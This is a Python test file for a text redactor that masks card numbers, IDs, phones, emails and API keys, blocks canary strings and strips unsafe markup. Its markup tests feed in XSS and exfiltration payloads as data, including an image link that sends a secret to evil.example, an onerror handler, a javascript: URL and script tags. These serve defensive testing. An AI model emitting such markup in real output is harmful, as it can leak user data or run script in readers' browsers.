"""Named cases for the redactor, its policy file and `redact_value`."""

from __future__ import annotations

from pathlib import Path

import pytest

from service.pipeline.redact import (
    RedactionAction,
    RedactionKind,
    RedactionPolicy,
    RedactionPolicyError,
    StreamRedactor,
    load_redaction_policy,
    parse_redaction_policy,
    redact_text,
    redact_value,
)

CARD = "4111 1111 1111 1111"  # Luhn-valid test number
CANARY = "BCN-canary-7f3a9c"


def feed_all(redactor: StreamRedactor, chunks: list[str]) -> str:
    return "".join(redactor.feed(chunk) for chunk in chunks) + redactor.flush()


def test_card_split_one_digit_per_chunk_is_masked(policy: RedactionPolicy) -> None:
    """A card number fed one character per chunk is still masked, and counted once."""
    redactor = StreamRedactor(policy)
    out = feed_all(redactor, list(f"Card: {CARD.replace(' ', '')}, thanks"))
    assert out == "Card: [card], thanks"
    assert redactor.counts == {RedactionKind.CARD: 1}


def test_non_luhn_digit_run_passes_through(policy: RedactionPolicy) -> None:
    """Sixteen digits that fail the Luhn check are not a card and stay as they are."""
    text = "Tracking number 4111111111111112 is on its way."
    assert redact_text(text, policy).text == text


def test_card_next_to_a_phone_is_not_claimed_by_it(policy: RedactionPolicy) -> None:
    """A phone and a 16-digit Luhn-valid card written side by side are masked one each."""
    result = redact_text("电话13812345678 6011 0009 9013 9424 谢谢", policy)
    assert result.text == "电话[phone] [card] 谢谢"
    assert result.counts == {RedactionKind.PHONE: 1, RedactionKind.CARD: 1}


def test_order_number_is_not_a_card(policy: RedactionPolicy) -> None:
    """A Luhn-valid number that starts with 1 (no bank card does) is left alone."""
    text = "how can I cancel purchase 113542617735902?"
    assert redact_text(text, policy).text == text


def test_cn_id_with_valid_checksum_is_masked(policy: RedactionPolicy) -> None:
    """An 18-character resident ID with a correct GB 11643 check character is masked."""
    assert redact_text("身份证 11010519491231002X 请核对", policy).text == "身份证 [id] 请核对"


def test_cn_id_with_bad_checksum_passes_through(policy: RedactionPolicy) -> None:
    """An ID-shaped number whose check character is wrong is left alone."""
    text = "编号 110105194912310021 请核对"
    assert redact_text(text, policy).text == text


@pytest.mark.parametrize(
    "phone",
    ["13812345678", "138 1234 5678", "138-1234-5678", "+86 138 1234 5678", "+1 (415) 555-2671"],
)
def test_phone_formats_are_masked(policy: RedactionPolicy, phone: str) -> None:
    """Chinese mobiles in 3-4-4 grouping and E.164 numbers with separators are masked."""
    assert redact_text(f"call {phone} today", policy).text == "call [phone] today"


def test_email_wins_over_phone_at_the_same_start(policy: RedactionPolicy) -> None:
    """A mobile number used as an email's local part is masked as one email."""
    result = redact_text("mail 13812345678@qq.com now", policy)
    assert (result.text, result.counts) == ("mail [email] now", {RedactionKind.EMAIL: 1})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("key sk-proj-abcdefghijklmnopqrstuvwxyz012345 end", "key [secret] end"),
        ("id AKIAIOSFODNN7EXAMPLE end", "id [secret] end"),
        ("Authorization: Bearer abcdefghijklmnop1234", "Authorization: Bearer [secret]"),
        ("export API_KEY=abc123def456", "export API_KEY=[secret]"),
        ("Reset your password: Settings", "Reset your password: Settings"),
    ],
)
def test_secrets_are_masked_and_prose_is_not(
    policy: RedactionPolicy, text: str, expected: str
) -> None:
    """API keys, tokens and assigned passwords are masked; "password: Settings" is prose."""
    assert redact_text(text, policy).text == expected


def test_canary_blocks_and_nothing_after_it_is_emitted(policy: RedactionPolicy) -> None:
    """Once a canary (in any letter case) arrives, the stream stops for good."""
    redactor = StreamRedactor(policy, canaries=[CANARY])
    outs = [redactor.feed(c) for c in ["The key is ", "bcn-CAN", "ARY-7f3a9c", " and more"]]
    outs.append(redactor.flush())
    assert "".join(outs) == "The key is "
    assert redactor.blocked and redactor.blocked_kind is RedactionKind.CANARY
    assert redactor.feed("later text") == ""


def test_canary_inside_a_masked_match_still_blocks(policy: RedactionPolicy) -> None:
    """A canary that starts inside another match blocks instead of leaking its tail."""
    result = redact_text(f"mail x@{CANARY}.example.com now", policy, canaries=[CANARY])
    assert result.blocked_kind is RedactionKind.CANARY
    assert result.text == "mail "


def test_plain_english_is_released_immediately(policy: RedactionPolicy) -> None:
    """Words followed by a space hold nothing back."""
    redactor = StreamRedactor(policy)
    assert redactor.feed("Hello there ") == "Hello there "
    assert redactor.held == 0


def test_plain_chinese_is_released_immediately(policy: RedactionPolicy) -> None:
    """Chinese text with no digits or Latin letters holds nothing back."""
    redactor = StreamRedactor(policy)
    assert redactor.feed("您好，请问") == "您好，请问"
    assert redactor.held == 0


def test_only_a_possible_pattern_start_is_held_back(policy: RedactionPolicy) -> None:
    """A trailing number or word is held until the next character decides it."""
    redactor = StreamRedactor(policy)
    assert redactor.feed("Order 12345") == "Order "
    assert redactor.feed(" shipped") == "12345 "
    assert redactor.held == len("shipped")


def test_script_element_is_removed_across_chunks(policy: RedactionPolicy) -> None:
    """A script element split over chunks is dropped whole, including its content."""
    redactor = StreamRedactor(policy)
    out = feed_all(redactor, ["Hi <scr", "ipt>alert(", "1)</scr", "ipt> bye"])
    assert out == "Hi  bye"
    assert redactor.counts == {RedactionKind.MARKUP: 1}


def test_unclosed_script_drops_the_rest(policy: RedactionPolicy) -> None:
    """A script element that never closes removes everything after it."""
    assert redact_text("Hi <script>alert(1) and more", policy).text == "Hi "


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![chart](https://evil.example/x.png?q=secret) ok", "see  ok"),
        ('a <img src=x onerror="steal()"> b', "a  b"),
        ("[click](javascript:alert(1))", "[click](alert(1))"),
        ("a <iframe src='https://evil.example'></iframe> b", "a  b"),
        ("![local](images/logo.png) and <b>bold</b>", "![local](images/logo.png) and <b>bold</b>"),
    ],
)
def test_unsafe_markup_is_removed(policy: RedactionPolicy, text: str, expected: str) -> None:
    """Remote images, event handlers, javascript: URLs and iframes go; harmless markup stays."""
    assert redact_text(text, policy).text == expected


def test_placeholders_follow_the_language(policy: RedactionPolicy) -> None:
    """Chinese answers get Chinese placeholders."""
    result = redact_text("邮箱 a.b@example.com 卡号 4111111111111111", policy, lang="zh-CN")
    assert result.text == "邮箱 [邮箱] 卡号 [银行卡]"


def test_redact_value_walks_nested_values(policy: RedactionPolicy) -> None:
    """Strings inside dicts, lists and tuples are redacted; other values are kept as they are."""
    value = {
        "question": "my card is 4111111111111111",
        "meta": {"emails": ["a@example.com", ("call 13812345678", 3)], "n": 7, "ok": None},
        "leak": f"the canary {CANARY}",
    }
    assert redact_value(value, policy, canaries=[CANARY]) == {
        "question": "my card is [card]",
        "meta": {"emails": ["[email]", ("call [phone]", 3)], "n": 7, "ok": None},
        "leak": "[redacted]",
    }


def test_policy_file_loads_with_defaults(tmp_path: Path) -> None:
    """Kinds left out of the file get the defaults: canary blocks, the rest are masked."""
    path = tmp_path / "policy.yaml"
    path.write_text("block_message: {en: Sorry., zh: 抱歉。}\nkinds: {card: {action: block}}\n")
    policy = load_redaction_policy(path)
    assert policy.action(RedactionKind.CARD) is RedactionAction.BLOCK
    assert policy.action(RedactionKind.CANARY) is RedactionAction.BLOCK
    assert policy.action(RedactionKind.EMAIL) is RedactionAction.MASK
    assert policy.block_message("zh") == "抱歉。"
    assert redact_text(f"card {CARD} x", policy).blocked_kind is RedactionKind.CARD


def test_shipped_policy_has_both_languages(policy: RedactionPolicy) -> None:
    """The shipped policy blocks canaries and has a block message in English and Chinese."""
    assert policy.blocking == {RedactionKind.CANARY}
    assert policy.block_message("en") and policy.block_message("zh")
    assert policy.block_message("en") != policy.block_message("zh")


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (
            {"kinds": {"passport": {"action": "mask"}}, "block_message": "x"},
            "unknown redaction kind",
        ),
        ({"kinds": {"card": {"action": "hide"}}, "block_message": "x"}, "unknown action"),
        ({"kinds": {"card": {"colour": "red"}}, "block_message": "x"}, "unknown keys"),
        ({"kinds": {}}, "block_message"),
        ({"block_message": {"en": "x"}}, "needs a text for each of en, zh"),
        (["not", "a", "mapping"], "expected a mapping"),
    ],
)
def test_invalid_policy_is_rejected(document: object, message: str) -> None:
    """A policy with an unknown kind, action or key, or missing texts, is a clear error."""
    with pytest.raises(RedactionPolicyError, match=message):
        parse_redaction_policy(document)
